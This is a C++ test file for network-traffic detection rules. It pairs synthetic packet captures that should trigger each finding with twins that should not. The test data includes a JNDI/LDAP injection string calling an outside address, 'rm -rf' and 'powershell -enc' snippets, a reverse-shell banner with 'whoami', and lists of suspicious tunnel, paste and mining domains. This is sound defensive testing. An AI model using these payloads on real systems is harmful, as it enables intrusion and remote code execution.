// SPDX-License-Identifier: GPL-3.0-or-later
// Every kind of reason in a made capture where it fires, beside its twin where it stays silent; none may be missing.
#include <gtest/gtest.h>

#include <functional>
#include <map>

#include "core/dissect/record.h"
#include "core/findings/weights.h"
#include "tests/findings/domaintraffic.h"
#include "tests/findings/twins.h"
#include "tests/support/dnsbuilder.h"

using namespace weir;
using namespace weir::test;

namespace {

using capturetables::TableRequest;

struct Twin {
    Frames fires, silent;
    std::string subject = server;
    TableRequest request = {}, silentRequest = {};
};

Frames named(std::string_view name) { return merged({lookup(client, name, server, 0), talk(server, 443, "x", "y")}); }

/// The client asks a service of a host and is answered, this many times.
Frames repeated(int count, std::int64_t apart, std::string_view to, std::uint16_t port, std::string_view asked,
                std::string_view answer) {
    Frames frames;
    for (int i = 0; i < count; ++i)
        append(frames, talk(to, port, asked, answer, second + i * apart, static_cast<std::uint16_t>(40000 + i)));
    return frames;
}

Frames unanswered(int count, bool neighbours) {
    Frames frames;
    for (int i = 0; i < count; ++i) {
        const std::string to = neighbours ? "10.0.9." + std::to_string(i + 1) : server;
        frames.push_back(
            {ethernet(ipv4(client, to, tcp({static_cast<std::uint16_t>(40000 + i), 445, 1, 0, dissect::syn}))),
             second * (i + 1), 0, 1});
    }
    return frames;
}

Frames asked(int count, const std::function<std::string(int)>& name, unsigned rcode = 0, std::uint16_t type = 1) {
    Frames frames;
    for (int i = 0; i < count; ++i)
        frames.push_back(
            datagram("10.0.0.53", 53, client, 5000, DnsBuilder(1).response(rcode).question(name(i), type).build(), i));
    return frames;
}

Frames echoes(bool varying) {
    Frames frames;
    for (unsigned i = 0; i < 40; ++i) {
        Octets rest = {0, 1, 0, static_cast<std::uint8_t>(i)};
        rest.resize(4 + (varying ? 200 + i * 7 : 300), 'x');
        frames.push_back({ethernet(ipv4(client, server, icmp(8, 0, rest))), second * (i + 1), 0, 1});
    }
    return frames;
}

Frames held(std::int64_t seconds) {
    TcpConversation conversation(client, 40000, server, 9001, second);
    conversation.handshake().clientSends(octets("a"));
    Frames frames = conversation.frames();
    TestFrame last = frames.back();
    last.time += seconds * second;
    frames.push_back(last);
    return frames;
}

Frames peers(int count) {
    Frames frames = lookup(client, "a.example.com", "93.184.216.99", 0);
    for (int i = 0; i < count; ++i) {
        const std::string peer = "93.184.217." + std::to_string(i + 1);
        const auto port = static_cast<std::uint16_t>(20000 + i);
        frames.push_back(datagram(client, 50123, peer, port, octets("abcdefgh"), second));
        frames.push_back(datagram(peer, port, client, 50123, octets("ijkl"), 2 * second));
    }
    return frames;
}

/// Four busy hosts, and one with so many octets.
Frames besideBusyOnes(std::size_t size) {
    Frames frames;
    for (int i = 0; i < 5; ++i) {
        TcpConversation conversation(client, static_cast<std::uint16_t>(41000 + i),
                                     i == 0 ? server : "93.184.216." + std::to_string(40 + i), 443, second + i);
        append(frames, conversation.handshake().serverSends(Octets(i == 0 ? size : 200'000, 0x55)).finish().frames());
    }
    return frames;
}

Frames overHttps(std::size_t size) {
    TcpConversation conversation(client, 40000, server, 443, second);
    conversation.handshake().clientSends(tlsClientHello("cloudflare-dns.com"));
    return conversation.clientSends(Octets(size, 0x17)).serverSends(Octets(size, 0x17)).finish().frames();
}

Frames contacts(int count) {
    Frames frames = lookup(client, "b.example.com", server, 0);
    append(frames, repeated(count, 60 * second, server, 443, "x", "y"));
    return frames;
}

Frames http(std::string_view host, std::string_view lookedUp = "a.example.com") {
    const std::string request = "GET / HTTP/1.1\r\nHost: " + std::string(host) + "\r\nUser-Agent: Lynx/2.9\r\n\r\n";
    return merged({lookup(client, lookedUp, lookedUp == host ? server : "93.184.216.99", 0),
                   talk(server, 80, request, "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", 2 * second)});
}

Frames tls(std::string_view name, std::uint16_t port) {
    TcpConversation conversation(client, 40000, server, port, second);
    return merged({lookup(client, name.empty() ? "a.example.com" : name, name.empty() ? "93.184.216.99" : server, 0),
                   conversation.handshake().clientSends(tlsClientHello(name)).serverSends(octets("x")).frames()});
}

TableRequest noted(std::int64_t malicious) {
    traffic::AddressNotes notes;
    notes[*IpAddress::parse(server)].malicious = malicious;
    TableRequest request;
    request.notes = std::make_shared<const traffic::AddressNotes>(notes);
    return request;
}

TableRequest listing(std::string_view text) {
    findings::IndicatorLists lists;
    lists.push_back(findings::IndicatorList::parse(text, "mine").take());
    TableRequest request;
    request.lists = std::make_shared<const findings::IndicatorLists>(std::move(lists));
    return request;
}

constexpr const char* binary = "\x01\x02\x03\x04\x05";
constexpr const char* ssh = "SSH-2.0-OpenSSH_9.2\r\n";
constexpr const char* mailGreeting = "220 mail.example.com ESMTP\r\n";

Frames mail(std::string_view login, std::string_view to) {
    TcpConversation conversation(client, 40000, to, 587, second);
    return conversation.handshake()
        .serverSends(octets(mailGreeting))
        .clientSends(octets("EHLO a\r\n" + std::string(login) + "MAIL FROM:<a@example.com>\r\n"))
        .finish()
        .frames();
}

std::map<std::string, Twin> twins() {
    const auto fetch = [](const Fetch& fires, const Fetch& silent) { return Twin{fires.frames(), silent.frames()}; };
    const auto withBody = [&](const std::string& body) { return fetch({.body = body}, {}); };
    const auto name = [](std::string_view fires) { return Twin{named(fires), named("www.example.com")}; };
    const std::string long1 = "bdeeb3d3f2ce8abffd84fc3a380fc37c.clo.example-prints.com";
    std::map<std::string, Twin> out;
    out["reputation"] = {talk(server, 443, "x", ""), talk(server, 443, "x", ""), server, noted(5), noted(0)};
    out["listed"] = {talk(server, 443, "x", ""), talk(server, 443, "x", ""), server, listing(server),
                     listing("198.51.100.1")};
    out["disguise"] = fetch({.type = "image/jpeg", .body = program()}, {.path = "/a.exe", .body = "words"});
    out["download"] = fetch({.path = "/a.exe", .type = "application/octet-stream", .body = program()}, {});
    out["encoded-program"] = withBody("TVqQAAMAAAAEAAAA//8AALgAAAAA");
    out["script"] = withBody("#!/bin/sh\nrm -rf /tmp/x\n");
    out["opaque"] = fetch({.type = "application/octet-stream", .body = noise(60'000)},
                          {.type = "application/octet-stream", .body = noise(40'000)});
    out["archive"] = withBody("PK\x03\x04\x14" + std::string(60, '\0'));
    out["program-asked"] = fetch({.path = "/a.ps1", .status = "404 Not Found"}, {.status = "404 Not Found"});
    const auto posts = [](int servers) {
        Frames frames;
        for (int i = 0; i < servers; ++i) {
            const std::string to = i == 0 ? server : "93.184.216." + std::to_string(40 + i);
            append(frames,
                   talk(to, 80,
                        "POST /8/forum.php HTTP/1.1\r\nHost: " + to +
                            "\r\nUser-Agent: Lynx/2.9\r\nContent-Length: 0\r\n\r\n",
                        "HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", second, static_cast<std::uint16_t>(40000 + i)));
        }
        return frames;
    };
    out["same-request"] = {posts(3), posts(2)};
    out["document"] = fetch({.path = "/a.doc",
                             .type = "application/msword",
                             .body = "\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + std::string(60, '\0')},
                            {.path = "/a.doc", .type = "application/msword", .body = "words"});
    out["familiar-download"] =
        fetch({.host = "download.windowsupdate.com", .type = "application/octet-stream", .body = program()},
              {.type = "application/octet-stream", .body = program()});
    out["exploit"] = {Fetch{.agent = "User-Agent: ${jndi:ldap://203.0.113.7/a}\r\n"}.frames(), Fetch{}.frames(),
                      client};
    out["stream-sign"] = {talk(server, 9001, "Microsoft Windows [Version 10.0.19045]\r\n", "whoami\n"),
                          talk(server, 9001, "hello\n", "good day\n")};
    out["tool-agent"] = fetch({.agent = "User-Agent: sqlmap/1.7\r\n"}, {});
    out["user-agent"] = fetch({.agent = "User-Agent: curl/8.0\r\n"}, {});
    out["no-user-agent"] = fetch({.agent = ""}, {});
    out["http-post"] = fetch({.method = "POST"}, {});
    const auto twice = [](const std::string& later) {
        return merged({Fetch{.method = "POST"}.frames(),
                       Fetch{.method = later, .time = 60 * second, .clientPort = 40001}.frames()});
    };
    out["post-only"] = {twice("POST"), twice("GET")};
    out["post-refused"] = fetch({.method = "POST", .status = "404 Not Found"}, {.method = "POST"});
    out["host-lies"] = {http("b.example.com"), http("b.example.com", "b.example.com")};
    out["never-named"] = {merged({lookup(client, "b.example.com", "93.184.216.99", 0), talk(server, 443, "x", "")}),
                          named("b.example.com")};
    out["http-to-address"] = {http(server), http("a.example.com", "a.example.com")};
    out["tls-to-address"] = {tls("", 443), tls("a.example.com", 443)};
    out["dynamic-dns"] = name("home.duckdns.org");
    out["abused-domain"] = name("shop.top");
    out["tor-gateway"] = name("abcdefg.onion.link");
    out["tunnel-service"] = name("x.ngrok.io");
    out["paste"] = name("pastebin.com");
    out["mining"] = name("pool.supportxmr.com");
    out["address-check"] = name("api.ipify.org");
    out["brand-in-name"] = name("paypal-login.example.com");
    out["made-up-domain"] = name("xkqzwrtplm.com");
    out["unfamiliar"] = {named("www.example.com"), named("www.mozilla.org")};
    out["rare"] = {besideBusyOnes(100), besideBusyOnes(20'000)};
    out["certificate-tool"] = {certified("c2.example", makeCertificate("DNS:c2.example", true, "AsyncRAT Server")),
                               certified("c2.example", makeCertificate("DNS:c2.example", true))};
    out["certificate"] = {certified("c2.example", makeCertificate("DNS:c2.example", true)),
                          certified("c2.example", makeCertificate("DNS:c2.example", false))};
    out["certificate-odd"] = {certified("c2.example", makeCertificate("DNS:c2.example", true)),
                              certified("www.example.com", makeCertificate("DNS:www.example.com", false))};
    for (Frames* frames : {&out["certificate-odd"].silent, &out["certificate-odd"].fires}) {
        for (TestFrame& frame : *frames) frame.time += 1'750'000'000 * second;  // when the certificate was valid
    }
    out["odd-port"] = {tls("a.example.com", 4043), tls("a.example.com", 443)};
    out["own-protocol"] = {talk(server, 80, binary, "\x09\x08\x07"), talk(server, 9001, binary, "\x09\x08\x07")};
    out["unknown-protocol"] = {talk(server, 9001, binary, "\x09\x08\x07"), talk(server, 9001, ssh, ssh)};
    out["tool-port"] = {talk(server, 4444, binary, "\x09\x08\x07"), talk(server, 9001, binary, "\x09\x08\x07")};
    out["irc"] = {talk(server, 6667, "NICK a\r\nUSER a 0 * :a\r\n", ":irc.example.com 001 a :Welcome\r\n"),
                  talk(server, 6667, ssh, ssh)};
    out["credentials"] = {mail("AUTH LOGIN\r\n", server), mail("", server)};
    out["mail-out"] = {mail("AUTH LOGIN\r\n", server), mail("", server)};
    out["beacon"] = {contacts(12), contacts(5)};
    out["long-connection"] = {held(1900), held(1700)};
    out["no-answer"] = {unanswered(4, false), unanswered(3, false)};
    out["upload"] = {talk(server, 443, std::string(600'000, 'x'), ""),
                     talk(server, 443, std::string(400'000, 'x'), "")};
    out["long-name"] = {lookup(client, long1, server, 0), lookup(client, "www.example.com", server, 0), long1};
    const auto tunnelled = [](int i) { return "abcdefghij0123456789" + std::to_string(i) + ".t.example.com"; };
    out["tunnel"] = {asked(30, tunnelled, 0, 16), asked(29, tunnelled, 0, 16), "example.com"};
    out["icmp-tunnel"] = {echoes(true), echoes(false), client};
    out["doh-volume"] = {overHttps(150'000), overHttps(50'000)};
    const auto generated = [](int i) { return "x" + std::to_string(i * 7919) + ".com"; };
    out["nxdomain"] = {asked(10, generated, 3), asked(10, generated), client};
    out["scan"] = {unanswered(20, true), unanswered(19, true), client};
    out["password-guessing"] = {repeated(20, second, "10.0.0.9", 22, ssh, ssh),
                                repeated(20, 60 * second, "10.0.0.9", 22, ssh, ssh), client};
    out["kerberoast"] = {tickets(8, 23), tickets(8, 18), client};
    out["remote-execution"] = {serviceControl(12), serviceControl(14), client};
    out["lateral"] = {talk("10.0.0.9", 22, ssh, ssh), talk(server, 22, ssh, ssh), client};
    const auto control = [&](std::string_view from, std::string_view to, std::int64_t time) {
        TcpConversation conversation(from, 40000, to, 22, time);
        return conversation.handshake().clientSends(octets(ssh)).serverSends(octets(ssh)).finish().frames();
    };
    out["pivot"] = {merged({control("10.0.0.9", client, second), control(client, "10.0.0.10", 9 * second)}),
                    merged({control(client, "10.0.0.10", second), control("10.0.0.9", client, 9 * second)}), client};
    out["peers"] = {peers(6), peers(5), client};
    return out;
}

TEST(Twins, EveryKindFiresAndItsTwinStaysSilent) {
    const auto all = twins();
    for (const findings::FindingRule& rule : findings::FindingWeights::defaults().rules()) {
        const auto twin = all.find(rule.kind);
        ASSERT_NE(twin, all.end()) << rule.kind << " has no capture";
        EXPECT_TRUE(has(twin->second.fires, twin->second.subject, rule.kind, twin->second.request)) << rule.kind;
        EXPECT_FALSE(has(twin->second.silent, twin->second.subject, rule.kind, twin->second.silentRequest))
            << rule.kind;
    }
    EXPECT_EQ(all.size(), findings::FindingWeights::defaults().rules().size()) << "a capture for no kind";
}

TEST(Twins, AnswersMayCarryDataAndCommands) {
    const auto answers = [](int count, const std::function<std::string(int)>& text) {
        Frames frames;
        for (int i = 0; i < count; ++i)
            frames.push_back(datagram(
                "10.0.0.53", 53, client, 5000,
                DnsBuilder(1).response().question("a.example.com", 16).txt("a.example.com", {text(i)}).build(), i));
        return frames;
    };
    const auto data = [](int i) { return "QUJD" + std::to_string(i) + std::string(120, 'x'); };
    const auto keys = [](int i) { return "v=DKIM1; k=rsa; p=MII" + std::to_string(i) + std::string(120, 'x'); };
    EXPECT_TRUE(has(answers(5, data), "example.com", "tunnel"));
    EXPECT_FALSE(has(answers(4, data), "example.com", "tunnel"));
    EXPECT_FALSE(has(answers(5, keys), "example.com", "tunnel"));
    EXPECT_TRUE(has(answers(1, [](int) { return "powershell -enc AAAAAAAAAAAAAAAA"; }), "example.com", "stream-sign"));
    EXPECT_FALSE(has(answers(1, [](int) { return "docs=https://example.com/powers"; }), "example.com", "stream-sign"));
}

TEST(Twins, ATunnelAsksForEachNameOnce) {
    const auto names = [](int times) {
        Frames frames;
        for (int i = 0; i < times; ++i)
            append(frames, asked(
                               30, [](int n) { return "abcdefghij0123456789" + std::to_string(n) + ".t.lab"; }, 0, 16));
        return frames;
    };
    EXPECT_TRUE(has(names(1), "t.lab", "tunnel")) << "under no public suffix";
    EXPECT_FALSE(has(names(6), "t.lab", "tunnel")) << "who asks again and again sends nothing";
}

TEST(Twins, ArpSweepsAreScans) {
    const auto sweep = [](int hosts, std::int64_t apart) {
        Frames frames;
        for (int i = 0; i < hosts; ++i)
            frames.push_back({ethernet(arp("192.168.7.5", "192.168.7." + std::to_string(i + 10))), i * apart, 0, 1});
        return frames;
    };
    EXPECT_TRUE(has(sweep(20, second), "192.168.7.5", "scan"));
    EXPECT_FALSE(has(sweep(19, second), "192.168.7.5", "scan"));
    EXPECT_FALSE(has(sweep(20, 60 * second), "192.168.7.5", "scan")) << "a router asks for many hosts, but slowly";
}

TEST(Twins, KerberosNamesAreTried) {
    EXPECT_TRUE(has(logins(10, 24), client, "password-guessing"));
    EXPECT_TRUE(has(logins(10, 6), client, "password-guessing"));
    EXPECT_FALSE(has(logins(9, 24), client, "password-guessing"));
    EXPECT_FALSE(has(logins(10, 25), client, "password-guessing")) << "to be asked for a password first is usual";
}

}  // namespace
